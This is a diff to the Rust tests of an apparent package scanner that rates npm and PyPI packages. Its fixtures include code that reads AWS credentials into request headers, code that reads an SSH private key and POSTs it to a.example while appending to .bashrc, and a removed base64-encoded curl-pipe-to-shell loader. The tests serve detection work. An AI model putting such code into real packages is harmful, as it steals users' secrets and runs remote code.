@@ -206,13 +206,30 @@ mod tests {
     }
 
     #[test]
+    fn a_key_that_signs_is_not_sent() {
+        let keys = "const fs = require('fs'), os = require('os');\nexports.keys = () => JSON.parse(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'));\n";
+        let entry = |signed: &str| {
+            format!(
+                "const {{ sign }} = require('aws4');\nconst https = require('https');\nconst {{ keys }} = require('./keys');\nexports.go = () => {{\n  const signed = {signed};\n  const r = https.request({{ hostname: 's3.example.com', headers: signed.headers }});\n  r.end();\n}};\n"
+            )
+        };
+        let concluded = |signed: &str| {
+            let manifest = "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}";
+            let entry = entry(signed);
+            concluded("npm", &[("package.json", manifest), ("index.js", entry.as_str()), ("keys.js", keys)])
+        };
+        assert!(concluded("sign({ service: 's3' }, keys())") < Conclusion::Hold);
+        assert!(concluded("sign({ service: 's3', headers: keys() }, keys())") >= Conclusion::Hold);
+    }
+
+    #[test]
     fn what_only_several_files_say_together_blocks_nothing() {
-        let text = "data = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCcp'\n";
-        let code = "import base64\ndef run(x):\n    exec(base64.b64decode(x))\n";
-        let entry = "from .text import data\nfrom .code import run\nrun(data)\n";
-        let apart = [("demo/__init__.py", entry), ("demo/text.py", text), ("demo/code.py", code)];
+        let sender = "import urllib.request\ndef out(x):\n    urllib.request.urlopen('https://a.example', data=x.encode())\n";
+        let body = "data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n";
+        let entry = format!("import os\nfrom .b import out\n{body}out(data)\n");
+        let apart = [("demo/__init__.py", entry.as_str()), ("demo/b.py", sender)];
         assert_eq!(concluded("pypi", &apart), Conclusion::Hold);
-        let whole = format!("{text}import base64\nexec(base64.b64decode(data))\n");
+        let whole = format!("import os\n{sender}{body}out(data)\n");
         assert_eq!(concluded("pypi", &[("demo/__init__.py", whole.as_str())]), Conclusion::Block);
     }
 
